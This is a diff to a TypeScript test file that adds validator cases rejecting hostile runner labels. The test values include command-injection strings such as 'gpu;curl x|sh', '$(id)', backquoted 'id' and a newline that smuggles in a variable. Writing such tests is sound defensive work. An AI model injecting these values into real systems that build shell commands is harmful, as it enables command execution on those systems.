@@ -167,7 +167,24 @@ const CORPUS: BadCase[] = [
     createJson({ organization: 'a', labels: ['gpu\u0000'] }),
     /label/,
   ),
-  invalid('label of 101 characters', createJson({ organization: 'a', labels: ['x'.repeat(101)] }), /label/),
+  invalid('label of 257 characters', createJson({ organization: 'a', labels: ['x'.repeat(257)] }), /1-256/),
+  // hostile labels: filled into the runner's environment and RUNNER_COMMAND (often `sh -c '…'`)
+  ...[
+    ['a shell command list', 'gpu;curl x|sh'],
+    ['a command substitution', '$(id)'],
+    ['backquotes', '`id`'],
+    ['a newline and a variable', 'gpu\nEVIL=1'],
+    ['an assignment', 'a=b'],
+    ['a leading hyphen', '--help'],
+    ['a quote', "gpu'"],
+    ['a very long one', 'x'.repeat(10_000)],
+  ].map(([name, label]) =>
+    invalid(
+      `label with ${name}`,
+      createJson({ organization: 'a', labels: ['gpu', label] }),
+      /labels\.1: a label is 1-256 ASCII letters, digits, "\.", "_" or "-"/,
+    ),
+  ),
   invalid('labels as a string', createJson({ organization: 'a', labels: 'gpu' }), /labels/),
   invalid('labels holding a number', createJson({ organization: 'a', labels: [7] }), /labels/),
   invalid(
